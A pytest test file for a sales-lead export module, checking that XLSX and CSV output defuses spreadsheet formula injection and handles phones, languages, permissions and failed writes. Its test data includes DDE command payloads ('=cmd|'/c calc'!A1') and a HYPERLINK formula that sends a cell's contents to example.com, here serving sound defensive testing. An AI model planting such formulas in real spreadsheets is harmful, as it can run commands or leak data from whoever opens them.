import csv
import io
import json
import re
import stat
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pyarrow
import pyarrow.compute as pc
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from leads import schema
from leads.errors import LeadsError
from sales.delivery import DELIVERY_NEXT_STEPS, DELIVERY_ROWS, write
from sales.headings import headings
from sales.sheets import BATCH, INNER, NEXT, START, _safe

COLUMNS, STEP_COLUMNS = ([name.rstrip("?") for name in names] for names in (BATCH, NEXT))
SHARED = Path(__file__).parents[3] / "shared" / "data" / "bad-inputs" / "own" / "formula.jsonl"
PHONES = ["+79161234567", "+4930123456", "+38761123456"]
FORMULAS = [
    "=1+1", "=cmd|'/c calc'!A1", "+cmd|'/c calc'!A1", "-2+3+cmd|'/c calc'!A1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "\x00=1+1", " =1+1", "\u200b=1+1", "\ufeff=1+1", "\u00a0\u00ad=1+1", "\x0b=1+1", "＝1+1", "＋1",
    "－1", "＠SUM(1)", "=1+1@example.com", '=HYPERLINK("http://example.com/?x="&A1,"click")',
]  # fmt: skip
PLAIN = [
    "O'Brien", "100%", '"=1+1', "{=1+1}", "%0A=1+1", "http://example.com/", "mailto:a@example.com", "007", "1e5",
    "2026-05-03", "TRUE", "a, =b", "<b>&amp;</b>", "_x0041_", "ООО «Завод»", "Đorđević", "😀",
]  # fmt: skip


def frame(columns: list[str], *stated: dict[str, Any]) -> pd.DataFrame:
    return pd.DataFrame({c: schema.texts(row.get(c) for row in stated) for c in columns})


def batch(*stated: dict[str, Any], owner: str = "team", reader: str = "en") -> pd.DataFrame:
    told = {c.rstrip("?"): "x" for c in BATCH if not c.endswith("?")}
    full = ({**told, "owner": owner, "reader": reader, **row} for row in stated)
    return schema.check(DELIVERY_ROWS, frame(list(DELIVERY_ROWS.columns), *full))


def steps(*contacts: str, owner: str = "team", reader: str = "en") -> pd.DataFrame:
    told = {"owner": owner, "reader": reader, "why_not": "No consent", "next_step": "Ask by post"}
    return frame(list(DELIVERY_NEXT_STEPS.columns), *({**told, "contact": c} for c in contacts))


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


def column(path: Path, name: str) -> list[Any]:
    sheet = openpyxl.load_workbook(path).worksheets[0]
    return [row[COLUMNS.index(name)] for row in sheet.iter_rows(min_row=2)]


def test_no_cell_of_the_workbook_is_anything_but_text(tmp_path: Path) -> None:
    texts = [*FORMULAS, *PLAIN, *PHONES]
    xlsx, _ = write(batch(*({"name": text} for text in texts)), steps("=1+1"), tmp_path, "s")
    book = openpyxl.load_workbook(xlsx)
    kinds = {
        cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None
    }
    assert kinds == {"s"}
    assert not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(xlsx) as inside:
        assert not any(b"<f>" in inside.read(name) for name in inside.namelist() if "sheet" in name)


def test_texts_survive_the_workbook_and_risky_ones_are_quoted(tmp_path: Path) -> None:
    # Control characters and what looks like one are written as `_x0000_`, which openpyxl leaves as it is.
    texts = [text for text in (*FORMULAS, *PLAIN, *PHONES) if text.isprintable() and text != "_x0041_"]
    xlsx, _ = write(batch(*({"name": text} for text in texts)), steps(), tmp_path, "s")
    cells = column(xlsx, "name")
    assert [cell.value for cell in cells] == texts
    assert [bool(cell.quotePrefix) for cell in cells] == [text in (*FORMULAS, *PHONES) for text in texts]
    assert {cell.number_format for cell in cells} == {"@"}


def test_phones_are_themselves_in_both_files(tmp_path: Path) -> None:
    xlsx, file = write(batch(*({"phone": phone} for phone in PHONES)), steps(), tmp_path, "s")
    assert [cell.value for cell in column(xlsx, "phone")] == PHONES
    assert not any(cell.quotePrefix for cell in column(xlsx, "phone"))
    assert [row[COLUMNS.index("phone")] for row in read_csv(file)[1:]] == PHONES


def test_a_list_of_phones_is_itself_in_both_files(tmp_path: Path) -> None:
    listed = "; ".join(PHONES)
    xlsx, file = write(batch({"other_phones": listed}), steps(), tmp_path, "s")
    assert [cell.value for cell in column(xlsx, "other_phones")] == [listed]
    assert read_csv(file)[1][COLUMNS.index("other_phones")] == listed
    _, file = write(batch({"other_phones": f"{listed}; =1+1"}), steps(), tmp_path, "s")
    assert read_csv(file)[1][COLUMNS.index("other_phones")].startswith("'")


@pytest.mark.parametrize("phone", ["+7916123456\n7", "+791612345678901234", "+1-1", "+7916", "+٧٩١٦١٢٣٤٥٦٧"])
def test_only_a_strict_phone_is_spared(tmp_path: Path, phone: str) -> None:
    _, file = write(batch({"phone": phone}), steps(), tmp_path, "s")
    assert read_csv(file)[1][COLUMNS.index("phone")] == f"'{phone}"


def test_csv_prefixes_what_a_spreadsheet_would_calculate_and_nothing_else(tmp_path: Path) -> None:
    texts = [*FORMULAS, *PHONES, *PLAIN]
    _, file = write(batch(*({"name": text} for text in texts)), steps(), tmp_path, "s")
    names = [row[COLUMNS.index("name")] for row in read_csv(file)[1:]]
    risky = len(FORMULAS) + len(PHONES)
    assert all(name.startswith("'") for name in names[:risky])
    assert names[risky:] == PLAIN


@pytest.mark.parametrize("text", ["a;=1+1", "a; =1+1", "x\n@SUM(1)", "x\t-1", "x\r\n＝1", "a;\u200b+1"])
def test_a_csv_read_with_another_delimiter_has_no_formula_either(tmp_path: Path, text: str) -> None:
    _, file = write(batch({"company": text}), steps(), tmp_path, "s")
    content = file.read_bytes().decode("utf-8-sig")
    for delimiter in ";\t":
        for line in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter, quoting=csv.QUOTE_NONE):
            assert not any(cell.strip(" \u200b\t\r\n").startswith(("=", "+", "-", "@", "＝")) for cell in line)


def test_csv_is_quoted_utf8_with_bom_and_crlf(tmp_path: Path) -> None:
    _, file = write(batch({"name": "Иван", "company": 'A "B", C'}), steps(), tmp_path, "s")
    content = file.read_bytes()
    assert content.startswith(b'\xef\xbb\xbf"')
    assert content.count(b"\r\n") == 2
    assert content.endswith(b'"\r\n')
    assert '"Иван","A ""B"", C"'.encode() in content


@settings(max_examples=60, deadline=None)
@given(text=st.text(st.characters(exclude_categories=["Cs"]), max_size=12))
def test_any_text_comes_back_from_the_csv(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    _, file = write(batch({"name": text}), steps(), tmp_path_factory.mktemp("any"), "s")
    header, row = read_csv(file)
    assert len(header) == len(row) == len(COLUMNS)
    assert unmarked(row[0]) == text


@settings(max_examples=300, deadline=None)
@given(text=st.text(st.sampled_from("'=+-@;\t\n \u200b\u00a0＝a1"), max_size=10))
def test_marks_are_taken_off_again_without_loss(text: str) -> None:
    (cell,) = _safe(pd.Series(schema.texts([text]), name="company"))
    assert unmarked(cell) == text


def unmarked(cell: str) -> str:
    """Whoever takes off one mark wherever one can stand has the text again."""
    first = pc.replace_substring_regex(pyarrow.array([cell]), f"^'('*{START})", r"\1")
    return str(pc.replace_substring_regex(first, INNER.replace(")(", ")'("), r"\1\2")[0])


def test_every_shared_formula_is_harmless_in_both_files(tmp_path: Path) -> None:
    if not SHARED.is_file():
        pytest.skip("the collection of bad inputs is not beside this checkout")
    cases = [json.loads(line) for line in SHARED.read_text(encoding="utf-8").splitlines()]
    phone = [case["text"] for case in cases if re.fullmatch(r"\+\d{7,15}", case["text"], re.ASCII)]
    assert phone
    stated = [{"phone" if case["text"] in phone else "name": case["text"]} for case in cases]
    xlsx, file = write(batch(*stated), steps(), tmp_path, "s")
    assert {cell.data_type for cell in column(xlsx, "name") if cell.value} == {"s"}
    for case, row in zip(cases, read_csv(file)[1:], strict=True):
        name, number = row[COLUMNS.index("name")], row[COLUMNS.index("phone")]
        assert not name.lstrip(" \u200b\ufeff").startswith(tuple("=+-@\t\r\n\x00＝＋－＠"))
        assert number == (case["text"] if case["text"] in phone else "")


@pytest.mark.parametrize("reader", ["ru", "en", "de", "hu", "ro", "bs"])
def test_headers_and_sheets_speak_the_readers_language(tmp_path: Path, reader: str) -> None:
    xlsx, file = write(batch({"name": "Test Person"}, reader=reader), steps("c2", reader=reader), tmp_path, "s")
    book = openpyxl.load_workbook(xlsx)
    # A list of recalls is a file of its own.
    assert book.sheetnames == [words.in_(reader) for name, words in headings().sheets.items() if name != "recalls"]
    for sheet, columns in zip(book, (COLUMNS, STEP_COLUMNS), strict=True):
        header = next(sheet.iter_rows(max_row=1))
        assert [cell.value for cell in header] == [headings().columns[name].in_(reader) for name in columns]
        assert all(cell.font.b for cell in header)
        assert sheet.freeze_panes == "C2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert all(5 < width.width < 60 for width in sheet.column_dimensions.values())
    assert read_csv(file)[0] == [headings().columns[name].in_(reader) for name in COLUMNS]


def test_one_pair_of_files_per_owner_each_with_their_own_contacts(tmp_path: Path) -> None:
    lists = pd.concat([batch({"contact": "c1"}, owner="a"), batch({"contact": "c2"}, owner="b", reader="ru")])
    paths = write(lists, pd.concat([steps("c3", owner="b", reader="ru"), steps("c4", owner="c")]), tmp_path, "s")
    assert [path.name for path in paths] == ["s-a.xlsx", "s-a.csv", "s-b.xlsx", "s-b.csv", "s-c.xlsx", "s-c.csv"]
    assert [cell.value for cell in column(tmp_path / "s-b.xlsx", "contact")] == ["c2"]
    assert [cell.value for cell in openpyxl.load_workbook(tmp_path / "s-b.xlsx").worksheets[1]["E"]][1:] == ["c3"]
    assert len(read_csv(tmp_path / "s-c.csv")) == 1


def test_files_are_private_and_leave_nothing_half_written(tmp_path: Path) -> None:
    paths = write(batch({}), steps(), tmp_path / "new" / "folder", "2026-11-22T09:14:03.120000Z")
    assert [path.name for path in paths] == [
        "2026-11-22T09-14-03.120000Z-team.xlsx",
        "2026-11-22T09-14-03.120000Z-team.csv",
    ]
    assert {stat.S_IMODE(path.stat().st_mode) for path in paths} == {0o600}
    assert set((tmp_path / "new" / "folder").iterdir()) == set(paths)
    again = write(batch({"name": "New"}), steps(), tmp_path / "new" / "folder", "2026-11-22T09:14:03.120000Z")
    assert again == paths
    assert read_csv(paths[1])[1][0] == "New"


def test_a_write_that_fails_leaves_the_old_file_and_no_rest(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, file = write(batch({"name": "Old"}), steps(), tmp_path, "s")
    before = set(tmp_path.iterdir())

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(LeadsError, match="delivery cannot be written: No space left on device"):
        write(batch({"name": "New"}), steps(), tmp_path, "s")
    assert set(tmp_path.iterdir()) == before
    assert read_csv(file)[1][0] == "Old"


def test_a_folder_that_is_a_file_is_an_error_without_a_trace(tmp_path: Path) -> None:
    (tmp_path / "taken").write_text("x")
    with pytest.raises(LeadsError, match="delivery cannot be written"):
        write(batch({}), steps(), tmp_path / "taken", "s")


def test_a_cell_longer_than_a_sheet_can_hold_is_cut_with_a_mark(tmp_path: Path) -> None:
    xlsx, file = write(batch({"name": "😀" * 40_000}), steps(), tmp_path, "s")
    shown = column(xlsx, "name")[0].value
    assert shown.endswith("😀…")
    assert len(shown.encode("utf-16-le")) // 2 <= 32_767
    assert len(read_csv(file)[1][0]) == 40_000


def test_nothing_to_hand_over_writes_nothing(tmp_path: Path) -> None:
    assert write(batch(), steps(), tmp_path, "s") == []
